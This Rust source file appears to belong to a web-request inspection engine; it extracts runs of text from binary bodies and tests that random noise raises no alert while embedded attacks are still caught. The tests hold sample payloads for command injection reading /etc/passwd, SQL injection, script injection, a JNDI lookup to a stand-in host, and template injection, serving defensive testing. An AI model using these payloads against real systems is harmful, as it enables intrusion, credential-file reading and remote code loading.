//! Compressed, encrypted and encoded data: what is text in it is scanned, not what reads as text by chance.
//!
//! Random bytes hold every symbol of every language, so grammars find much to look at and short signatures match by chance.
//! In a body, a file or a field of a binary format whose bytes are mostly no text, runs of text are scanned as long as an
//! attack is. What applications read as text - parameters, fields of forms, strings of JSON and XML - is scanned as a whole,
//! whatever it is made of: noise around an attack there hides nothing. Signatures for files see every byte.

use crate::model::text_runs::text_runs;
use crate::model::{ByteClasses, PointTree, Value};
use crate::parse::data;

/// The runs of text in `text`, which is `value` or a part of it, if it is data that no application reads as text. Each has
/// the byte before and the byte after it, if any.
pub(super) fn runs_of_text(
    text: &[u8],
    classes: ByteClasses,
    value: &Value<'_>,
    tree: &PointTree<'_>,
) -> Option<Vec<u8>> {
    data::holds_data(text, classes, value, tree).then(|| text_runs(text))
}

#[cfg(test)]
mod tests {
    use crate::engine::{InspectionOptions, Scratch, inspect};
    use crate::model::Inspection;
    use crate::parse::message::request;
    use crate::ruleset::{Ruleset, builtin, compile};

    fn rules() -> Ruleset {
        compile::compile(&builtin::files()).unwrap_or_else(|errors| panic!("{}", errors[0]))
    }

    /// Bytes of a fixed sequence that looks random.
    fn noise(bytes: usize) -> Vec<u8> {
        let mut state = 0x9e37_79b9_7f4a_7c15_u64;
        let next = |_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state >> 32) as u8
        };
        (0..bytes).map(next).collect()
    }

    fn sent(media: &str, body: &[u8], rules: &Ruleset) -> Inspection {
        let head = format!("POST /api HTTP/1.1\r\nHost: shop.example\r\nContent-Type: {media}\r\n\r\n");
        let raw = [head.as_bytes(), body].concat();
        inspect(&request(&raw), rules, &InspectionOptions::default(), &mut Scratch::default(), &|| false)
    }

    #[test]
    fn data_is_inspected_within_the_budget_and_is_no_attack() {
        let rules = rules();
        for media in [
            "application/octet-stream",
            "application/x-www-form-urlencoded",
            "application/x-protobuf",
            "application/grpc",
            "application/json",
            "text/plain",
            "video/mp4",
            "",
        ] {
            for bytes in [4 << 10, 24 << 10, 256 << 10] {
                let found = sent(media, &noise(bytes), &rules);
                assert!(found.not_inspected.is_empty(), "{media}, {bytes}: {:?}", found.not_inspected);
                assert!(found.attacks().is_empty(), "{media}, {bytes}: {:?}", found.findings);
            }
        }
    }

    #[test]
    fn text_in_data_is_found() {
        let (rules, noise) = (rules(), noise(8 << 10));
        for attack in ["; cat /etc/passwd", "' or 1=1 -- x", "<script>alert(1)</script>", "${jndi:ldap://a.example/x}"]
        {
            let body = [&noise[..], attack.as_bytes(), &noise[..]].concat();
            for media in ["application/octet-stream", "text/plain", ""] {
                assert!(!sent(media, &body, &rules).attacks().is_empty(), "{media}: {attack}");
            }
        }
    }

    #[test]
    fn noise_hides_nothing_in_a_parameter() {
        let rules = rules();
        // What separates fields is left out, so that the noise is one value.
        let noise: Vec<u8> = noise(8 << 10)
            .into_iter()
            .filter(|b| !matches!(b, b'&' | b'=' | b'+' | b'%' | b'"' | b'\'' | b'#'))
            .collect();
        let form = [&b"a="[..], &noise, b"{{7*7}}", &noise].concat();
        assert!(!sent("application/x-www-form-urlencoded", &form, &rules).attacks().is_empty());
    }
}
